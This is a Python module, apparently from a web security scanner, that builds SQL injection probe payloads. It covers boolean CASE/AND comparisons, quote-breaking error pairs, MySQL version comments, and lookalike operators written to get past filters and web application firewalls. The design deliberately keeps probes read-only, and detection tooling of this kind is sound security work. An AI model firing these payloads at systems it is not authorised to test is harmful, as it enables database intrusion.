"""Payloads of `sqli`: where a value may stand in a statement, and how to leave it again without breaking the statement.

Every payload keeps the statement a single one and only ever narrows what it touches. For requests that may change
something this must hold wherever the value stands, and on every engine, so there only expressions are used whose result
is the value itself or nothing: `'x' AND 1=2` is 0 inside IN (…), and MySQL finds every text equal to 0.
"""

import re
from itertools import chain
from typing import NamedTuple

# Breaks out of every kind of quoting at once: whatever the context, a statement that holds it raw does not parse.
SCREEN = "{value}'\""
# As odd, and whole: within quotes a quote that is doubled is one; a number is itself.
WHOLE_TEXT, WHOLE_NUMBER = "{value}''", "{value}-0"


# A whole statement, its rows narrowed by a comparison: of a number with itself, or with a column that is not there.
NARROWED = "SELECT * FROM ({statement}) {alias} WHERE {left}={right}"


class Context(NamedTuple):
    """A place in a statement, and an expression that is true or false there.

    pattern: `value` stands for the baseline's value, of which `head` is all but the last character and `tail` the last,
    `statement` the whole without what ends it, `init` what stands before its last comma and `last` what stands behind it; of a
    value that names a column to sort by or to show, `column` is the name, `before` and `after` what stands around it; `left` and
    `right` are compared; `same` keeps the rest of the statement true; `mark` is a text that equals no other, `no` other letters
    where the expression shall be false, `yes` where it shall be true; so are `once` letters, and `again` is the word again.
    operator: what `word` stands for; in its place the lookalikes make a statement that does not parse, and mean nothing to a
    search. others: lookalikes of another kind, which must tell nothing as well: what a filter takes out of the first it may leave
    in these. number: makes sense for numbers only. quotes: needs a quote to get through.
    """

    name: str
    pattern: str
    operator: str
    lookalikes: tuple[str, ...]
    number: bool = False
    quotes: bool = True
    others: tuple[str, ...] = ()


# Operators, each with lookalikes that are none.
AND = ("AND", ("AMD", "ADN", "NAD", "ANB"))
CASE = ("CASE", ("CASA", "CSAE", "CAZE", "CASK"))

# The value itself, or NULL: a number anywhere, or the name of a column.
_BARE = Context("number", "{word} WHEN {left}={right} THEN {value} END", *CASE, number=True, quotes=False)
_NAME = Context("name of a column", "{before}{word} WHEN {left}={right} THEN {column} END{after}", *CASE, quotes=False)
# A limit of MySQL takes nothing but a number. It runs what stands in a comment that names an old enough version, and
# passes over one that names a version to come (the manual, 9.7 Comments; MariaDB passes over 50700 to 99999).
_COMMENT = Context(
    "number, with a comment of MySQL",
    "{value}{word}!{version}{mark}*/",
    "/*",
    ("*/", "//*", "*", "*-"),
    number=True,
    quotes=False,
    # Of an old version: MySQL runs what is no statement. PHP, JavaScript and others pass over any comment.
    others=("/*!40000 ",),
)
# Elsewhere the empty text. MySQL reads `||` as OR: there it is NULL, and with it the whole, unless the value reads as
# true; a NULL finds nothing, where 0 inside IN (…) would find every text.
NOTHING = "NULLIF(''||'','0')"
# The value itself, or one that equals no other.
_JOINED = Context(
    "text, joined", f"{{value}}'||{NOTHING}||{{word}} WHEN {{left}}={{right}} THEN '' ELSE '{{mark}}' END||'", *CASE
)
# MySQL joins texts that stand side by side. So do Python and Ruby, which know no such comment; fresh letters in it, so that what
# answers by a sum of the bytes takes no two alike. A shell does, too: of the lookalikes those of letters do not break it, and no
# statement takes them. One quote more is the same to a filter that takes out quotes and comments.
_BESIDE = Context("text, side by side", "{head}'{word}/*{mark}{yes}*/'{tail}{no}", "", ("'",), others=("qzx", "xjq"))
_TEXT = Context("text", "{value}' {word} {left}={right} {word} '{same}'='{same}", *AND)
_PATTERN = Context("pattern", "{value}%' {word} {left}={right} {word} '{same}%'='{same}", *AND)
_TEXT_IN_BRACKETS = Context("text in brackets", "{value}') {word} {left}={right} {word} ('{same}'='{same}", *AND)
_PATTERN_IN_BRACKETS = Context(
    "pattern in brackets", "{value}%') {word} {left}={right} {word} ('{same}%'='{same}", *AND
)
# Between a column and what it is compared with: that and zero, or NULL.
_OPERATOR = Context("sign of a comparison", "{value} {word} WHEN {left}={right} THEN 0 END + ", *CASE, quotes=False)
# Behind the name of a column, where only ASC and DESC may stand: one more to sort by, the same for every row.
_DIRECTION = Context("direction of an order", "{value},{word} WHEN {left}={right} THEN 0.5 END", *CASE, quotes=False)
# The last of several numbers, or NULL.
_LISTED = Context("list of numbers", "{init},{word} WHEN {left}={right} THEN {last} END", *CASE, quotes=False)
# Of a type that no other text is of (`'…'::uuid`): what follows is the value again.
_TEXT_OF_A_TYPE = Context("text of a type", "{value}' {word} {left}={right} {word} '{value}'='{value}", *AND)
_DOUBLE = Context("text in double quotes", '{value}" {word} {left}={right} {word} "{same}"="{same}', *AND)

# The same for texts that begin as a number: CAST AS TEXT is an error wherever `||` may be OR, and nothing happens there.
_JOINED_BY_STANDARD = Context(
    "text, joined by the standard",
    "{value}'||{word} WHEN {left}={right} THEN CAST('' AS TEXT) ELSE '{mark}' END||'",
    *CASE,
)
# A name behind which a bracket opens: what it computes, or NULL. Of numbers, and of texts.
_FUNCTION = Context("name of a function", "{word} WHEN {left}={right} THEN 0 END+{value}", *CASE, quotes=False)
_FUNCTION_OF_TEXTS = Context(
    "name of a function of texts", "{word} WHEN {left}={right} THEN '' END||{value}", *CASE, quotes=False
)
# The table itself, or none of its rows. Nothing is ever inserted into such a table, changed or deleted: it is no table.
_TABLE = Context(
    "name of a table",
    "(SELECT * FROM {value} {word} {left}={right}) {mark}",
    "WHERE",
    ("WHRE", "WEHRE", "WHERA", "VHERE"),
    quotes=False,
)

# A whole statement of the caller's: its rows, or none of them. Nothing is changed by what SELECT stands before.
WHOLE_STATEMENT = Context(
    "whole statement",
    "SELECT * FROM ({statement}) {mark} {word} {left}={right}",
    "WHERE",
    ("WHRE", "WEHRE", "WHERA", "VHERE"),
    quotes=False,
)
# The name of a column that is written to, where neither an expression nor a quote may stand: a comment behind it is a blank, and
# within it parts two words. What takes comments out has the name both times; what takes known names alone, not once.
_WRITTEN = Context(
    "name of a column that is written", "{head}{word}{tail}/*{mark}*/", "", ("/**/", "/*-*/", "/* */"), quotes=False
)

# Without a word, without a blank, for those who take them out: joined by the standard. To MySQL and to scripts it is an OR of
# parts, which is not the value. The lookalikes are the same signs in another order; letters in quotes join to a text in Python.
_WORDLESS = Context(
    "text, joined by signs", "{head}{word}{again}{tail}{once}", "'||'", ("|''|", "||''", "''||"), others=("'qzx'",)
)

# Where neither an expression nor a quote may stand (a limit, what is called, a table): SQL's two kinds of comments, which no
# other language knows both; what only looks like the second, and brackets behind it, are errors to every engine. Only where
# nothing can be changed: who takes the line's end out has the rest of the statement in the comment.
COMMENTED_LINE = Context(
    "alone, before a comment",
    "{value} /*{mark}*/ {word} {mark}\n",
    "--",
    ("-+", "+-", "- +", "*-"),
    quotes=False,
    others=("--\n)", "--\n("),
)


def _quoted_name(quote: str) -> Context:
    """The name of a column in quotes of its own, or behind a table's: what is compared with NULL is the same for every row."""
    pattern = "{before}{column}#=NULL,{word} WHEN {left}={right} THEN #{column}# END,NULL=#{column}".replace("#", quote)
    return Context(f"name of a column in {quote}" if quote else "name of a column behind its table's", pattern, *CASE)


def _alias(quote: str, down: str = "") -> Context:
    """A name to sort by that may be the statement's own for what it shows: PostgreSQL knows it within no expression."""
    pattern = "{before}{column}#@,{word} WHEN {left}={right} THEN 0.5 END,#{column}"
    pattern = pattern.replace("#", quote).replace("@", down)
    return Context(f"name to sort by{' in ' * bool(quote)}{quote}{',' * bool(down)}{down.lower()}", pattern, *CASE)


def _sorted_down(quote: str) -> Context:
    """The same before DESC, which must stay behind the column: it is sorted up before that where the comparison is false."""
    pattern = "{before}{column}#=NULL,{word} WHEN {left}!={right} THEN #{column}# END,#{column}".replace("#", quote)
    return _quoted_name(quote)._replace(name=f"{_quoted_name(quote).name}, sorted down", pattern=pattern)


def _renamed(quote: str) -> Context:
    """The name of a table or of a column to show, in quotes of its own: another name behind it changes nothing."""
    lookalikes = (f"{quote}{quote}", f"{quote} {quote}{quote}", f"{quote}{quote} {quote}")
    return Context(f"name in {quote}", "{value}{word}{mark}", f"{quote} {quote}", lookalikes)


def _in_json(closing: str) -> Context:
    """A text inside of a document of JSON in a statement: what opens it must be closed. `<>` would make a shell create a file."""
    pattern = "{value}" + closing + "' {word} {left}={right} {word} '{same}'!='{mark}"
    return Context("text in JSON", pattern, *AND)


# A number is seldom searched for by pattern.
READING_NUMBERS = (_BARE, _JOINED, _TEXT, _TEXT_IN_BRACKETS, _DOUBLE, _COMMENT)
READING_TEXTS = (_JOINED, _TEXT, _PATTERN, _TEXT_IN_BRACKETS, _PATTERN_IN_BRACKETS, _NAME)
CHANGING_NUMBERS = (_BARE, _BESIDE)
CHANGING_BROKEN_NUMBERS = (*CHANGING_NUMBERS, _JOINED_BY_STANDARD)  # where odd input broke, they may stand in quotes
CHANGING_CODES = (_BESIDE, _JOINED_BY_STANDARD, _NAME)  # texts that begin as a number
CHANGING_TEXTS = (_JOINED, _BESIDE, _NAME)
_OF_A_TYPE = frozenset(each.name for each in (_JOINED, _TEXT, _PATTERN, _BESIDE, _NAME))
DIRECTIONS = (_DIRECTION,)
LISTS = (_LISTED, _JOINED)
OPERATORS = (_OPERATOR,)
WHOLE_STATEMENTS = (WHOLE_STATEMENT,)
WRITTEN = (_WRITTEN,)
# Seldom met: asked for where odd input broke something, and nothing above told what.
SELDOM = (_FUNCTION, _FUNCTION_OF_TEXTS, _TABLE)
# Arrays as PostgreSQL writes them, which no text that is joined may stand in.
IN_ARRAYS = (
    _in_json("}}")._replace(name="text in an array"),
    Context("array in brackets", "{value}}}') {word} {left}={right} {word} ('{same}'!='{mark}", *AND),
)
# How an object and a list in JSON end behind a text, and one in the other; and a path's condition. Only to read: AND narrows.
SELDOM_READING = (*(_in_json(closing) for closing in ('"}}', '"]}}', '"]', '"}}}}', '")')), *IN_ARRAYS)
READING_LISTS = (*LISTS, *IN_ARRAYS)
# PostgreSQL's own sign behind a name in quotes, for every column: its text. Another name stands before what is shown:
# `SELECT "…" AS label`.
_CAST = Context("name in double quotes, cast", '{value}"::"{word}', "text", ("texd", "txet", "taxt"))
# What passes filters that take out words of SQL or blanks. Asked for where quotes are answered otherwise and nothing above told why.
FILTERED = (_BESIDE, _WORDLESS)
# Of values that by their parameter's name are sorted by.
ALIASES = tuple(_alias(quote) for quote in ("`", '"', ""))
# And where one of these is sorted by, what sorts otherwise where it is false; or the same, sorted down.
QUOTED_NAMES = tuple(_quoted_name(quote) for quote in ("`", '"', ""))
SORTED_BY = {_alias(quote): (_quoted_name(quote), _alias(quote, " DESC")) for quote in ("`", '"', "")}
# And where one of these breaks nothing, but sorts otherwise.
SORTED_DOWN = {_quoted_name(quote): _sorted_down(quote) for quote in ("`", '"', "")}
# Of other values that may name something.
RENAMED = (_renamed("`"), _renamed('"'))


def broken_words(context: Context) -> tuple[str, ...]:
    """What breaks a statement in the place of the context's operator: its lookalikes, and the operator twice.

    The operator twice is broken to a parser and the same to a filter that looks for it: a firewall that sends whoever
    writes AND behind a quote elsewhere lets the lookalikes pass.
    """
    twice = (f"{context.operator} {context.operator}",) if context.operator.isalpha() else ()
    return (*twice, *context.lookalikes, *context.others)


def may_be_typed(context: Context, *, number: bool, column: bool = False) -> bool:
    """Whether a context may hold a value though even whole input is refused there: a column of dates or identifiers, a name,
    and what is looked up or compared, as a login's name is: any other than the right one is refused in the same words.

    column: what is named like one to sort by is seldom a pattern, and joined texts are patterns as well.
    """
    if number or (column and context is _PATTERN):
        return number and context.quotes
    return context.name in _OF_A_TYPE


def typed(context: Context) -> Context:
    """The context where even whole input is refused: what stands behind the value may have to be of its type."""
    return _TEXT_OF_A_TYPE if context is _TEXT else context


def is_name(value: str) -> bool:
    """Whether a value may name a function or a table."""
    return _NAME_ALONE.fullmatch(value) is not None


def joins_with_care(value: str) -> bool:
    """Whether a join with this value finds nothing where `||` is OR: MySQL reads a text that begins as a number so."""
    return value.lstrip()[:1] not in tuple("0123456789+-.")


class Pair(NamedTuple):
    """An input that breaks a statement, and one as odd that does not. `mark` is drawn anew each time.

    backslash: whether the error must be over a backslash, which nobody sent.
    """

    name: str
    broken: str
    whole: str
    backslash: bool = False


# Each context twice, so that a repeat differs in more than its mark.
_TEXT_PAIRS = (Pair("text", "{value}{mark}'", "{value}{mark}''"), Pair("text", "{value}'{mark}", "{value}''{mark}"))
_DOUBLE_PAIRS = (
    Pair("text in double quotes", '{value}{mark}"', '{value}{mark}""'),
    Pair("text in double quotes", '{value}"{mark}', '{value}""{mark}'),
)
_ARITHMETIC = (Pair("number", "{value}-", "{value}-0"), Pair("number", "{value}*", "{value}*1"))
# The value again and nothing else: in a list of what to delete, another one would be deleted too.
_LIST = (Pair("list", "{value},", "{value},{value}"), Pair("list", "{value},(", "{value},({value})"))
# Where nothing but a number may stand (a limit of MySQL), what cannot break it is a comment.
_COMMENTED = (
    Pair("number alone", "{value}'{mark}", "{value}/*'{mark}*/"),
    Pair("number alone", '{value}{mark}"', '{value}/*{mark}"*/'),
)
# PHP's `addslashes` before a database to which a backslash is a letter: the first quote ends the text all the same, and the
# backslash before the second stands alone. What ends that statement would cut off the rest of it, which may say what is changed.
BACKSLASHED = Pair("text whose quotes get a backslash", "{value}''{mark}", "{value}{mark}", backslash=True)
ERROR_PAIRS_FOR_NUMBERS = (_ARITHMETIC, _TEXT_PAIRS, _LIST, _DOUBLE_PAIRS, _COMMENTED)
ERROR_PAIRS_FOR_TEXTS = (_TEXT_PAIRS, _LIST, _DOUBLE_PAIRS)
ERROR_PAIRS_FOR_DIRECTIONS = (
    (Pair("direction", "{value},", "{value},0.5"), Pair("direction", "{value},(", "{value},(0.5)")),
)


# Other names with commas, a sign; the name; a direction as APIs and statements write it.
_COLUMNS = re.compile(
    r"((?:[-+]?[A-Za-z_][\w.]*, ?)*[-+]?)([A-Za-z_][\w.]*)((?:[ :,|]|%20)(?:asc|desc))?", re.IGNORECASE
)
_NAME_ALONE = re.compile(r"[A-Za-z_][\w.]*")
_STATEMENT = re.compile(r"\s*+select\s", re.IGNORECASE)
_BARE_WORD = re.compile(r"\d+|(?!(?:true|false|null|asc|desc)$)[A-Za-z_]\w*(?:\(.*\))?", re.IGNORECASE)
SORTS = re.compile(r"sort|order|column|field|group|by$", re.IGNORECASE)
_LIMITS = re.compile(r"limit|offset|size|top|rows|start|skip|per|max", re.IGNORECASE)
_LIST_OF_NUMBERS = re.compile(r"\d+(?:, ?\d+)+")


def is_statement(value: str) -> bool:
    """Whether a value is a whole statement that reads, as consoles of SQL are given."""
    return _STATEMENT.match(value) is not None


def is_direction(value: str) -> bool:
    """Whether a value is the direction of an order, behind which nothing but a comma can follow."""
    return value.strip().lower() in ("asc", "desc")


def is_operator(value: str) -> bool:
    """Whether a value is the sign of a comparison."""
    return value.strip() in ("=", "<", ">", "<=", ">=", "<>", "!=")


def in_their_place(value: str) -> tuple[Context, ...]:
    """The contexts of a value that can stand in one kind of place only; none of any other value."""
    if is_statement(value):
        return WHOLE_STATEMENTS
    if is_direction(value):
        return DIRECTIONS
    if is_list(value):
        return LISTS
    return OPERATORS if is_operator(value) else ()


class Named(NamedTuple):
    """A value that names a column, and what stands around the name: a sign or other names before, a direction behind."""

    before: str
    column: str
    after: str


def named(value: str) -> Named:
    """The last column that a value names, which is the whole value where it is not known to name one.

    A sign stays before it: `-price` means descending to many applications, which take the sign off.
    """
    found = _COLUMNS.fullmatch(value)
    return Named(*found.groups(default="")) if found else Named("", value, "")


def reading_seldom(
    value: str, point: tuple[str, ...], *, broke: bool, refused: bool, failed: bool = False
) -> tuple[Context, ...]:
    """What is seldom met, of a request that changes nothing. broke: odd input broke something. refused: whole input, too.

    failed: the server told that it failed, as those who check numbers and names seldom do.
    """
    bare = point[0] != "path" and _BARE_WORD.fullmatch(value) is not None
    if refused and value.isdecimal():
        bare = bare and ((failed and point[0] == "get") or _LIMITS.search(point[-1]) is not None)
    column = names_a_column(value, point[-1])
    alone = (COMMENTED_LINE,) if bare and not column else ()
    if value.isdecimal():
        return alone
    contexts: tuple[Context, ...] = () if refused else FILTERED
    if broke and not refused:
        contexts += SELDOM_READING
    if column:
        return contexts + ALIASES
    names: tuple[Context, ...] = RENAMED if broke else RENAMED[:1]
    if refused:
        names = (*ALIASES[:2], _CAST) if failed else ()
    return contexts + alone + (names if bare and is_name(value) else ())


def changing_names(value: str) -> tuple[Context, ...]:
    """Names of columns in quotes, of a request that may change something: within a text's quotes they are the value or NULL."""
    return QUOTED_NAMES[:2] if is_name(value) and not is_direction(value) else ()


def names_a_column(value: str, parameter: str) -> bool:
    """Whether a value by its parameter is the name of a column to sort or to group by."""
    # A sign before the name means descending to applications that take it off and write the rest into the statement.
    name = value[1:] if value[:1] in ("-", "+") else value
    return is_name(name) and not is_direction(value) and SORTS.search(parameter) is not None


def seldom(value: str, parameter: str) -> tuple[Context, ...]:
    """Names of functions and tables, where a value may be one, and no column to sort by."""
    return () if not is_name(value) or is_direction(value) or names_a_column(value, parameter) else SELDOM


def names_something(context: Context) -> bool:
    """Whether a context stands in the place of a name, where a false comparison may change nothing that is shown."""
    return context in (
        *SELDOM,
        *ALIASES,
        *chain(*SORTED_BY.values()),
        *SORTED_DOWN.values(),
        *RENAMED,
        *WRITTEN,
        COMMENTED_LINE,
        _CAST,
    )


def is_list(value: str) -> bool:
    """Whether a value is several numbers with commas between them."""
    return _LIST_OF_NUMBERS.fullmatch(value) is not None
